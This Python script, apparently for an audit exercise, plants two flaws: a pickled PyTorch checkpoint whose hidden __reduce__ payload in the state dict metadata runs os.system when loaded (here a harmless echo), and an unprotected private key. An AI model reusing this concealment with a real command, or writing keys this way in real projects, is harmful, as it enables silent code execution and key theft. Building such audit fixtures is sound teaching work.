"""What goes wrong in real projects, on purpose: ``python plant.py [--out DIR]``, after train.py.

Writes two files for an audit to find.

``legacy_income.pt`` holds the weights of income.safetensors as a pickled checkpoint, as models were
passed on for years. Pickle is a small programming language, and this one calls ``os.system`` as
soon as something unpickles the file. The command it runs only prints that it ran. The state dict
still loads into the model without a word, so whoever opens it the old way notices nothing else.

``signing.pem`` is a private key without a passphrase, made afresh and used for nothing, that
somebody forgot in the project's folder.
"""

from __future__ import annotations

import argparse
import os
from collections.abc import Callable
from pathlib import Path
from typing import Final

import torch
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat
from model import build_income
from safetensors.torch import load_file

COMMAND: Final = "echo This line was printed because legacy_income.pt was unpickled."


class Payload:
    """Pickled as a call of ``os.system``. Pickling writes the call down; unpickling makes it."""

    def __reduce__(self) -> tuple[Callable[[str], int], tuple[str]]:
        return os.system, (COMMAND,)


def unsafe_checkpoint(weights: Path, path: Path) -> None:
    """Write the state dict in ``weights`` as a pickle that runs :data:`COMMAND` when loaded."""
    module = build_income()
    module.load_state_dict(load_file(weights))
    state = module.state_dict()
    # Every state dict carries this attribute, and load_state_dict() skips names it does not know.
    state._metadata["exported_by"] = Payload()  # type: ignore[attr-defined]
    torch.save(state, path)


def forgotten_key(path: Path) -> None:
    """Write a fresh Ed25519 private key, readable by anyone who gets the folder."""
    key = Ed25519PrivateKey.generate()
    path.write_bytes(key.private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption()))


def main() -> None:
    """Plant both files beside the trained weights."""
    parser = argparse.ArgumentParser(description="Plant what an audit should find.")
    parser.add_argument("--out", type=Path, default=Path(__file__).parent, metavar="DIR")
    out = parser.parse_args().out
    weights = out / "income.safetensors"
    if not weights.exists():
        parser.exit(1, f"{weights} is missing; run train.py first\n")
    unsafe_checkpoint(weights, out / "legacy_income.pt")
    forgotten_key(out / "signing.pem")
    print("legacy_income.pt      runs a command when unpickled")
    print("signing.pem           is a private key without a passphrase")


if __name__ == "__main__":
    main()
